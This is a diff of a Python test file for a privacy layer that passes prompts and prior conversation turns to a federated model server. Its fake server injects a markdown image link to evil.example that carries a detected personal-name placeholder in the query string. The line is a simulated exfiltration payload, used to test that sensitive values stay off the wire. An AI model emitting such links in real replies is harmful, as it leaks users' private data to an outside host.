@@ -17,6 +17,9 @@ import pytest
 
 from renga.boundary import enter
 from renga.cli import run
+from renga.client.federation import Federation
+from renga.errors import RengaError
+from renga.models.contract import Clearance, Prompt, Said, Sampling
 from renga.protocol import link_pb2 as wire
 from renga.protocol.link_pb2_grpc import LinkServicer, add_LinkServicer_to_server
 
@@ -38,9 +41,11 @@ class Echo(LinkServicer):
 
     def __init__(self) -> None:
         self.prompts: list[str] = []
+        self.turns: list[list[wire.Said]] = []
 
     async def Respond(self, request: wire.RespondRequest, context: Any) -> Any:
         self.prompts.append(request.prompt)
+        self.turns.append(list(request.before))
         tag = re.search(r"<PERSON_\w+>", request.prompt)
         evil = f" ![x](https://evil.example/?q={tag[0]})" if tag else ""
         text = f"You said: {request.prompt}{evil}"
@@ -140,6 +145,20 @@ def test_no_detected_value_is_on_the_socket_and_the_answer_is_whole(
         assert all(form not in kept for form in forms(value))
     (entry,) = [json.loads(line) for line in (tmp_path / "client" / "ledger.jsonl").read_text().splitlines()]
     assert entry["kind"] == "prompt" and entry["bytes"] == len(left.encode())
+
+
+def test_turns_travel_as_turns(socket: Socket, tmp_path: Path) -> None:
+    before = (Said("system", "Be kind."), Said("user", "Hello"), Said("assistant", "Good day"))
+    federation = Federation(tmp_path / "client")
+    reply = federation.ask(Prompt("And now?", Clearance.SANITISED, before), Sampling())
+    assert "".join(piece.text for piece in reply) == "You said: And now?"
+    (turns,) = socket.echo.turns
+    assert [(one.role, one.text) for one in turns] == [(one.role, one.text) for one in before]
+    (entry,) = [json.loads(line) for line in (tmp_path / "client" / "ledger.jsonl").read_text().splitlines()]
+    assert entry["bytes"] == len(b"Be kind.\nHello\nGood day\nAnd now?")
+    with pytest.raises(RengaError):
+        federation.ask(Prompt("raw", before=before), Sampling())
+    federation.close()
 
 
 def test_a_conversation_goes_on_with_the_same_surrogates(
